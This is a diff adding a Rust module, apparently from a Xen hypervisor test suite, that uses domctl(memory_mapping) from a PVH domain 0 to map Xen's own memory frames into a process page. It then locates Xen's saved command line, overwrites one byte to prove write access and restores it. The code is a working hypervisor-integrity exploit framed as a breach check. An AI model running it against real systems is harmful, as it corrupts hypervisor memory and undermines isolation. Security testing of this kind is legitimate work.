@@ -1,0 +1,88 @@
+//! Any machine frame as device memory of domain 0: a page of the process becomes a page of Xen.
+
+use anyhow::Result;
+
+use super::{Attack, Level};
+use crate::calls::{domain, memory};
+use crate::layout::MemoryMapping;
+use crate::outcome::{Outcome, breached, held, not_applicable};
+use crate::witness::{frame_of_own, guest_page_works, is_pv};
+use crate::xen::{Buffer, PAGE, Privcmd};
+
+pub(super) const ATTACK: Attack = Attack {
+    id: "memory-mapping-self",
+    rule: "B3",
+    level: Level::Integrity,
+    summary: "domctl(memory_mapping) puts a frame of Xen itself behind a page of the process",
+    needs: "privcmd; a PVH domain 0; Xen tells its symbols",
+    observed: "Xen's command line, as xen_version tells it, is what was written into the process's own page",
+    healthy: false,
+    run,
+    twin: || guest_page_works(&Privcmd::open()?),
+};
+
+const MEMORY_MAPPING: u32 = 39;
+/// Xen's image begins here in its own address space, on x86-64.
+const XEN_START: u64 = 0xffff_82d0_4000_0000;
+/// Xen's image lies on such a boundary in physical memory.
+const STEP: u64 = 1 << 21;
+
+fn run() -> Outcome {
+    let privcmd = Privcmd::open()?;
+    if is_pv()? {
+        let answer = map(&privcmd, 0x1_0000, 0x1_0000, true).map(|_| "done");
+        return held(format!("memory_mapping answered {answer:?}, but a paravirtual domain 0 has no such map"));
+    }
+    let known = privcmd.command_line()?;
+    if known.len() < 16 {
+        return not_applicable("Xen's command line is too short to be recognized");
+    }
+    let Some(address) = super::xen_symbol::find(&privcmd, "saved_cmdline")? else {
+        return not_applicable("Xen does not tell where its command line is");
+    };
+    let page = Buffer::new(1)?;
+    let frame = frame_of_own(page.address())?;
+    // The page behind the process's memory goes; what is mapped in its place is seen through it.
+    privcmd.reservation(memory::DECREASE_RESERVATION, domain::SELF, &[frame])?;
+    let found = search(&privcmd, &page, frame, address - XEN_START, &known);
+    let filled = privcmd.reservation(memory::POPULATE_PHYSMAP, domain::SELF, &[frame]);
+    match found {
+        Ok(Some(seen)) => breached(format!("{seen}; refilled: {filled:?}")),
+        Ok(None) => held(format!("no frame of Xen was mapped; refilled: {filled:?}")),
+        Err(error) => held(format!("memory_mapping: {error:#}; refilled: {filled:?}")),
+    }
+}
+
+fn search(privcmd: &Privcmd, page: &Buffer, frame: u64, place: u64, known: &[u8]) -> Result<Option<String>> {
+    let offset = usize::try_from(place % PAGE as u64)?;
+    let length = known.len().min(PAGE - offset);
+    // From four gibibytes downwards: Xen moves itself as high as it can below them.
+    for base in (1..(1 << 32) / STEP).rev() {
+        let machine = (base * STEP + place) / PAGE as u64;
+        if map(privcmd, frame, machine, true).is_err() {
+            continue;
+        }
+        if page.read(offset, length).as_slice() == known.get(..length).unwrap_or_default() {
+            let byte = known.first().copied().unwrap_or_default();
+            page.write(offset, &[byte ^ 0x20]);
+            let changed = privcmd.command_line()?;
+            page.write(offset, &[byte]);
+            let back = privcmd.command_line()? == known;
+            map(privcmd, frame, machine, false)?;
+            let told = format!(
+                "machine frame {machine:#x} is Xen's; its command line became {:?}, and {} put back",
+                String::from_utf8_lossy(changed.get(..16).unwrap_or_default()),
+                if back { "was" } else { "was not" }
+            );
+            return Ok((changed != known).then_some(told));
+        }
+        map(privcmd, frame, machine, false)?;
+    }
+    Ok(None)
+}
+
+fn map(privcmd: &Privcmd, frame: u64, machine_frame: u64, add: bool) -> Result<()> {
+    let request = MemoryMapping { frame, machine_frame, number: 1, add: u32::from(add), padding: 0 };
+    privcmd.domctl(MEMORY_MAPPING, 0, &request)?;
+    Ok(())
+}
